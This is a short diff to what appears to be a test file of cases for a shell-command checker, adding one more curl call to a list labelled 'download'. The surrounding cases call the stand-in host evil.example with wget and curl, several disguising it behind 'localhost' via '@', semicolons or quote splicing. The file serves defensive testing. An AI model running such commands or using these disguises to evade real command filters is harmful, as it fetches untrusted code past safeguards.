@@ -108,6 +108,7 @@ export const CHECK_CASES = {
       ["download", shell("wget http://localhost@evil.example")],
       ["download", shell("curl 'http://localhost:80;@evil.example/a'")],
       ["download", shell("curl http://localhost''.evil.example/a")],
+      ["download", shell("curl --retry-delay 5 evil.example")],
       ["download", shell("curl HTTPS://evil.example/a")],
       ["download", shell("curl evil.example/a")],
       ["download", shell("curl -sS -o a.json -H 'Host: b' me@evil.example")],
